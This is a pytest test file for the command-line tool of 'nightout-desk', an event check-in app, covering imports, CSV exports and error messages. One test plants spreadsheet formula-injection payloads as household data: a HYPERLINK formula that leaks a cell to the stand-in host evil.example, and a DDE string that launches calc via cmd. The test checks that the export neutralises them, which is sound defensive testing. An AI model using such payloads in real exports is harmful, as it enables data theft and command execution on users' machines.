"""The `nightout-desk` command end to end: a real process (`python -m nightout_desk`) on a temporary database file."""

from __future__ import annotations

import argparse
import csv
import os
import subprocess
import sys
from pathlib import Path

import pytest

from nightout_desk.cli import build_parser
from nightout_desk.db import Database
from nightout_desk.db.migrate import upgrade
from nightout_desk.services.checkin import checkins, households
from tests.conftest import make_desk

SAMPLES = Path(__file__).resolve().parent.parent / "resources" / "samples"
PAT = ("--operator", "Pat Organizer")  # a name with no account: on a database without accounts, no one is checked
EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your ticket")'


def nightout(*args: str, db: Path | None = None, who: str | None = None, pin: str = "2026",
             stdin: str | None = None) -> subprocess.CompletedProcess:
    """A real `python -m nightout_desk`; `who` signs in with --operator, the PIN in NIGHTOUT_PIN (the demo's 2026)."""
    command = [sys.executable, "-m", "nightout_desk", *(["--db", str(db)] if db else []),
               *(["--operator", who] if who else []), *map(str, args)]
    env = {**os.environ, "QT_QPA_PLATFORM": "offscreen"}
    env.pop("NIGHTOUT_PIN", None)
    if who:
        env["NIGHTOUT_PIN"] = pin
    return subprocess.run(command, capture_output=True, text=True, timeout=180, env=env, input=stdin,
                          cwd=Path(__file__).resolve().parent.parent)


def _with_event(tmp_path: Path) -> Path:
    path = tmp_path / "night.sqlite3"
    db = Database(str(path))
    upgrade(db)
    make_desk(db)
    db.dispose()
    return path


def _rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def _subcommands() -> list[str]:
    sub = next(a for a in build_parser()._actions if isinstance(a, argparse._SubParsersAction))
    return list(sub.choices)


def test_every_command_explains_itself_with_help():
    top = nightout("--help")
    assert top.returncode == 0 and "usage: nightout-desk" in top.stdout
    commands = _subcommands()
    assert {"gui", "demo", "import", "print", "report", "export", "backup"} <= set(commands)
    for command in commands:
        assert command in top.stdout
        shown = nightout(command, "--help")
        assert shown.returncode == 0, (command, shown.stderr)
        assert f"usage: nightout-desk {command}" in shown.stdout and "--db URL" in shown.stdout, command
        assert shown.stderr == ""


def test_a_demo_night_then_the_eventbrite_import_then_the_export(tmp_path):
    db = tmp_path / "demo.sqlite3"
    demo = nightout("demo", "--households", "50", db=db)
    assert demo.returncode == 0, demo.stderr
    assert "with 50 households" in demo.stdout
    assert "“Demo Organizer” and “Demo Lieutenant”, both with the PIN 2026" in demo.stdout

    dry = nightout("import", "attendees", SAMPLES / "eventbrite_attendees.csv", "--dry-run", db=db)  # no one: a preview
    assert dry.returncode == 0, dry.stderr
    assert "Format: Eventbrite attendee report (UTF-8 with BOM, comma-separated, header on line 1)" in dry.stdout
    assert "Dry run: nothing was written (13 households would be added)." in dry.stdout

    anonymous = nightout("import", "attendees", SAMPLES / "eventbrite_attendees.csv", db=db)
    assert anonymous.returncode == 1 and "needs --operator NAME" in anonymous.stderr
    first = nightout("import", "attendees", SAMPLES / "eventbrite_attendees.csv", db=db, who="Demo Organizer")
    assert first.returncode == 0, first.stderr
    out = first.stdout
    assert "  Last name        last_name        <- “Last Name”" in out
    assert "  ZIP              zip_code         <- “Home Zip”" in out
    assert "13 households to add · 0 already there · 5 rows skipped" in out
    assert "  line 10: the attendee status is “Refunded”" in out
    assert "  line 37: the attendee status is “Deleted”" in out
    assert "Imported 13 households from eventbrite_attendees.csv. 5 rows were skipped." in out

    again = nightout("import", "attendees", SAMPLES / "eventbrite_attendees.csv", db=db, who="Demo Organizer")
    assert again.returncode == 0, again.stderr
    assert "Imported 0 households from eventbrite_attendees.csv. 13 were already there (not changed)." in again.stdout

    generic = nightout("import", "attendees", SAMPLES / "generic_households.csv", "--format", "generic", db=db,
                       who="Demo Lieutenant")
    assert generic.returncode == 0 and "Imported 5 households" in generic.stdout

    out_dir = tmp_path / "export"
    export = nightout("export", out_dir, db=db, who="Demo Organizer")
    assert export.returncode == 0, export.stderr
    written = {Path(line).name for line in export.stdout.split()}
    assert {"households.csv", "check_ins.csv", "audit_log.csv"} <= written
    family = _rows(out_dir / "households.csv")
    assert len(family) == 1 + 50 + 13 + 5
    assert len(_rows(out_dir / "check_ins.csv")) > 1, "the demo night already has arrivals"
    assert any(row[4] == "households imported" for row in _rows(out_dir / "audit_log.csv"))


def test_exported_cells_never_run_as_spreadsheet_formulas(tmp_path):
    path = tmp_path / "night.sqlite3"
    db = Database(str(path))
    upgrade(db)
    desk = make_desk(db)
    evil = households.add_household(desk, family_name=EVIL_NAME, first_names="@SUM(1+1)", phone="+1 555 0100",
                                    notes="-2+3 cmd|' /C calc'!A0")
    checkins.check_in(desk, evil.id)
    db.dispose()

    out_dir = tmp_path / "for excel"
    result = nightout("export", out_dir, db=path)
    assert result.returncode == 0, result.stderr
    seen_evil = 0
    for name in ("households.csv", "check_ins.csv", "audit_log.csv"):
        assert (out_dir / name).read_bytes().startswith(b"\xef\xbb\xbf"), "a BOM so Excel reads UTF-8"
        for row in _rows(out_dir / name)[1:]:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@")), (name, cell)
                seen_evil += EVIL_NAME in cell
    household = next(r for r in _rows(out_dir / "households.csv")[1:] if EVIL_NAME in r[1])
    assert household[1] == "'" + EVIL_NAME and household[2] == "'@SUM(1+1)" and household[3] == "'+1 555 0100"
    assert seen_evil >= 3  # the household, its check-in and the audit log all name it, all neutralised


@pytest.mark.parametrize(("case", "message"), [
    ("missing file", "There is no file at"),
    ("no event", "This database has no event yet"),
    ("database is a folder", "is a folder: give the database a file name"),
    ("database is not a database", "is not a NightOut Desk database"),
    ("picture renamed csv", "is a PNG picture, not a CSV file"),
    ("list without a name column", "The file has no column for the family name (or a full name) — map one."),
    ("unknown mapping column", "The file has no column called “Surname”"),
    ("unknown event", "No event called “Nowhere 1999”"),
    ("export onto a file", "is a file, not a folder"),
    ("negative demo", "-3 is below zero"),
    ("unknown option", "unrecognized arguments: --colour"),
])
def test_a_users_mistake_gives_one_line_exit_1_and_no_traceback(tmp_path, case, message):
    db = _with_event(tmp_path)
    png = tmp_path / "attendees.csv"
    png.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(100))
    nameless = tmp_path / "nameless.csv"
    nameless.write_text("Who,Tel\nOkafor,555\n", encoding="utf-8")
    not_a_db = tmp_path / "notes.txt"
    not_a_db.write_text("shopping list\n" * 200, encoding="utf-8")
    args = {
        "missing file": (db, "import", "attendees", tmp_path / "nope.csv"),
        "no event": (tmp_path / "fresh.sqlite3", *PAT, "import", "attendees", SAMPLES / "eventbrite_attendees.csv"),
        "database is a folder": (tmp_path, "events"),
        "database is not a database": (not_a_db, "events"),
        "picture renamed csv": (db, *PAT, "import", "attendees", png),
        "list without a name column": (db, *PAT, "import", "attendees", nameless),
        "unknown mapping column": (db, *PAT, "import", "attendees", nameless, "--map", "family_name=Surname"),
        "unknown event": (db, "export", tmp_path / "out", "--event", "Nowhere 1999"),
        "export onto a file": (db, "export", png),
        "negative demo": (db, "demo", "--households", "-3"),
        "unknown option": (db, "events", "--colour"),
    }[case]
    result = nightout(*args[1:], db=args[0])
    assert result.returncode == 1, (result.stdout, result.stderr)
    assert "Traceback" not in result.stderr + result.stdout
    error = result.stderr.strip()
    assert "\n" not in error and error.startswith("nightout-desk"), error
    assert message in error
